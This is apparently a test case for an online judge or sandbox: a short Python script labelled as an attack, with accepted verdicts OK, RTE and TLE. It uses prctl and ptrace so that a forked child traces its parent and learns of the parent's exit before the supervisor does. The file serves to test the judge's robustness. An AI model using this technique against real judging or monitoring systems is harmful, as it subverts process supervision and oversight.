# attack: is traced by its own child when it ends, so that the end is told to the tracer first
# verdict: OK RTE TLE
import ctypes
import os
import time

libc = ctypes.CDLL(None)
libc.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
parent = os.getpid()
if os.fork() == 0:
    libc.ptrace(0x4206, parent, 0, 0x40)
    time.sleep(60)
time.sleep(0.2)
os._exit(0)
